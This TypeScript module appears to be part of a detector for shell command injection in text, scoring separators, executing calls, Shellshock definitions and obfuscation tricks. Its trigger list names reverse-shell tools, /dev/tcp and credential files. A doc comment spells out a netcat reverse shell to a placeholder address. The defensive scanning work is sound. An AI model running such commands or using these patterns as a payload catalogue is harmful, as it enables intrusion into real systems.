// Command injection: a shell's separator, then a program it would start, then what only a shell reads.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are spelt as they are sent.
import { namesByWildcards, undisguised } from './command-disguise.ts';
import { isArgument, programAt, programWeight } from './command-program.ts';
import { BARE, EXECUTING_CALLS, LONE_PROGRAMS, SUBCOMMANDS, TELLING_PARTS } from './command-words.ts';
import type { Scanner, View } from './scanner.ts';
import { includesAny, isLetter, isWord, skipSpace, wordEnd } from './text-scan.ts';

/** Separators looked at in one text. */
const SEPARATORS = 256;
/** What may stand before a separator and still be "a value that was left". */
const SHORT_LEAD = 24;

/** `| id | name |`, `a | b | c`: a table or a list, not a pipe. */
const isTable = (lower: string): boolean => {
  const first = lower.indexOf(' | ');
  return (first >= 0 && lower.indexOf(' | ', first + 2) > 0) || (lower.startsWith('| ') && lower.endsWith(' |'));
};

/** How little stands before a separator: `;id`, `1;id` and `');id` leave a value; a sentence goes on. */
const leadWeight = (lower: string, at: number): number => {
  if (at > SHORT_LEAD) return 0;
  const before = lower.slice(0, at).trim();
  return before === '' ? 2 : before.includes(' ') ? 0 : 1;
};

/** `\`hostname\`. On success …`: a name in the marks of Markdown, and the sentence goes on. */
const isQuotedName = (lower: string, at: number): boolean => {
  const close = lower.indexOf('`', at + 1);
  if (close < 0) return false;
  let next = close + 1;
  while (next < lower.length && '.,:;)'.includes(lower.charAt(next))) next++;
  return lower.charAt(next) === ' ' && isLetter(lower.charCodeAt(next + 1));
};

const separatorWeight = ({ lower, decoded }: View): number => {
  let best = 0;
  let seen = 0;
  const table = isTable(lower);
  for (let at = 0; at < lower.length && seen < SEPARATORS; at++) {
    const symbol = lower.charAt(at);
    const written = symbol === '\\' && at === 0 && (lower.startsWith('\\n') || lower.startsWith('\\r'));
    if (!written && !';|&`\n\r$'.includes(symbol)) continue;
    seen++;
    if (symbol === '$' && lower.charAt(at + 1) !== '(') continue;
    // A fence of Markdown.
    if (symbol === '`' && (lower.charAt(at + 1) === '`' || lower.charAt(at - 1) === '`')) continue;
    // Line breaks of a log's own are no separators: only those that somebody encoded, or that begin a text.
    if ((symbol === '\n' || symbol === '\r') && !decoded && at > 0) continue;
    if (symbol === '|' && table) continue;
    let after = at + (symbol === '$' || written ? 2 : 1);
    while (after < lower.length && '|&;\n\r \t'.includes(lower.charAt(after))) after++;
    const start = at;
    // A run of separators is looked at once.
    at = Math.max(at, after - 1);
    const program = programAt(lower, after);
    const weight = program === undefined ? 0 : programWeight(lower, program);
    if (weight === 0 || program === undefined) continue;
    const lead = leadWeight(lower, start);
    let total = weight + lead + (symbol === '$' ? 1 : 0);
    // `read; sort`, `R & D`, `the \`id\` column`: separators of prose stand between blanks.
    const blank = lower.charAt(after - 1) === ' ';
    if (blank && lead < 2 && weight < 3) total -= 1;
    if (symbol === '&' && lower.charAt(start + 1) !== '&' && (lead === 0 || weight < 4)) total -= 2;
    if (symbol === '`' && ((start > 0 && '( |'.includes(lower.charAt(start - 1))) || isQuotedName(lower, start))) total -= 3;
    best = Math.max(best, total);
  }
  return best;
};

/** Nothing but a command: `cat /etc/hosts`, `nc -e /bin/sh 203.0.113.5 4444`. */
const bareWeight = ({ lower, place }: View): number => {
  const trimmed = lower.trim();
  if (place === 'text' && LONE_PROGRAMS.has(trimmed)) return 2;
  const program = programAt(lower, skipSpace(lower, 0));
  if (program === undefined || place === 'json') return 0;
  if (program.path) return 3;
  const next = skipSpace(lower, program.end);
  if (next === program.end || next >= lower.length) return 0;
  if (SUBCOMMANDS.get(program.name)?.has(lower.slice(next, wordEnd(lower, next))) === true) return 3;
  if (program.strength === BARE) return isArgument(lower, next) ? 4 : 0;
  return lower.startsWith('c:', next) || lower.startsWith('%system', next) || lower.startsWith('/etc/', next) ? 3 : 0;
};

const CALLS_READ = 8;

const callWeight = ({ lower, place }: View): number => {
  let best = 0;
  for (const call of EXECUTING_CALLS) {
    let at = lower.indexOf(call);
    for (let seen = 0; at >= 0 && seen < CALLS_READ; seen++, at = lower.indexOf(call, at + 1)) {
      if (isWord(lower.charCodeAt(at - 1))) continue;
      const argument = skipSpace(lower, at + call.length);
      const quote = lower.charAt(argument);
      const quoted = quote === "'" || quote === '"' || quote === '`';
      const program = quoted || call === '%x(' ? programAt(lower, argument + (quoted ? 1 : 0)) : undefined;
      // `/a/.exec('ls')` is a pattern; `Kernel.exec("ls -al")` hands over an argument as well.
      const method = lower.charAt(at - 1) === '.';
      // `system(ls)`: PHP takes an unknown word for a string.
      const bare = quoted ? undefined : programAt(lower, argument);
      if (!method && bare !== undefined && bare.strength >= 2 && lower.charAt(bare.end) === ')') best = Math.max(best, 4);
      // `eval(request.args.get('x'))`, `exec(params[:cmd])`: code that runs what a request holds.
      if (
        includesAny(lower.slice(argument, argument + 16), [
          'req.',
          'request',
          'params[',
          '$_',
          'atob(',
          'base64',
          'compile(',
          'chr(',
          'string.from',
        ])
      )
        best = Math.max(best, 4);
      if (program !== undefined) best = Math.max(best, programWeight(lower, program) >= (method ? 5 : 2) ? 5 : 2);
      else if (!method && quote === '$') best = Math.max(best, 3);
      else if (!method && quoted && at < 4 && place !== 'json') best = Math.max(best, 2);
    }
  }
  return best;
};

/** `;X=…;$X`: a variable set and expanded, to hide the program's name. */
const expandsOwnVariable = (lower: string): boolean => {
  const use = lower.lastIndexOf(';$');
  if (use < 0) return false;
  const name = lower.slice(use + 2, wordEnd(lower, use + 2));
  return name !== '' && lower.indexOf(`${name}=`) < use && lower.includes(`${name}=`);
};

const scan = (view: View): number => {
  const { lower } = view;
  // Shellshock (CVE-2014-6271): a function's definition, and a command behind it.
  let telling = lower.startsWith('() {') && lower.lastIndexOf('}', lower.length - 3) > 4 ? 8 : 0;
  for (const [part, weight] of TELLING_PARTS) if (weight > telling && lower.includes(part)) telling = weight;
  const open = undisguised(lower);
  // Hiding a word is itself evidence.
  const hidden = open === lower ? 0 : Math.max(separatorWeight({ ...view, lower: open }), bareWeight({ ...view, lower: open }));
  const shape = Math.max(
    separatorWeight(view),
    callWeight(view),
    bareWeight(view),
    hidden,
    expandsOwnVariable(lower) ? 3 : 0,
    (lower.includes('?') || lower.includes('*')) && namesByWildcards(lower) ? 5 : 0,
  );
  if (shape >= 2) return shape + Math.min(telling, 4);
  return telling >= 4 ? telling : 0;
};

export const commandScanner: Scanner = {
  class: 'command',
  triggers: [
    ...[
      ';',
      '|',
      '`',
      '$(',
      '&&',
      '& ',
      '/dev/tcp',
      '/dev/udp',
      '$ifs',
      '${ifs',
      '/?',
      '??',
      '?c/',
      '?n/',
      '?tc',
      '/e?',
      '/b?',
      '/et?',
      '?/',
      '/*',
      '*/',
      '${shell',
      '$shell',
      '$aws_',
      '${aws_',
      '() {',
      '(){',
      '/bin/',
      'bash -',
      'sh -i',
      'cmd.exe',
      'cmd /c',
      'powershell',
      'os.system',
      'os.popen',
      '\\n',
    ],
    ...[
      'getruntime',
      'runtime.exec',
      'processbuilder',
      'allow_url_include',
      'auto_prepend',
      'phpinfo',
      '<?',
      'system(',
      'shell_exec',
      'passthru',
      'popen(',
      'exec(',
      'eval(',
      'execsync',
      'spawn(',
      'child_process',
      '__import__',
      'md5(',
      'decode(',
      'inflate(',
      'call_user',
      '_function(',
      '_contents(',
      'mainmodule',
      'global.process',
      'newcontext(',
      'thiscontext(',
      'new function(',
      "('system')",
      '("system")',
      '(system)',
      '[system]',
      '@{[',
      'check_output(',
      'getoutput(',
      'spawnsync',
      '%x(',
    ],
    ...[
      '&cat ',
      '&ls',
      '&id',
      '&ping',
      '&dir',
      '&whoami',
      '&wget',
      '&curl',
      '&sleep',
      '&echo',
      '&net ',
      '$_get',
      '$home',
      '$user',
      '$path',
      '$env{',
      '$_post',
      '$_request',
      '$_server',
    ],
    ...[
      '/etc/passwd',
      '/etc/shadow',
      'nc -',
      'nc 1',
      'ncat ',
      'wget ',
      'curl ',
      'ping -',
      'ping 1',
      'netstat',
      'ipconfig',
      'ifconfig',
      'whoami',
      'net user',
      'net view',
      'net local',
      'net share',
      'systeminfo',
      'tasklist',
      'uname ',
      'cat /',
      'ls -',
      'ls /',
    ],
    ...[
      'rm -',
      'chmod ',
      'perl -',
      'python -',
      'php -',
      'reg add',
      'dir c:',
      'nslookup',
      'which nc',
      'which curl',
      'which wget',
      'which p',
      'which g',
      'which n',
      'netsh ',
      'type c:',
      '\necho',
      '\nid',
      '\nls',
      '\ncat',
      '\nping',
      '\ndir',
      '\n/',
      '\nwhoami',
      '\ncurl',
      '\nwget',
      '\nsleep',
      '\nuname',
      '\n id',
      '\n ping',
      '\n cat',
    ],
  ],
  scan,
};
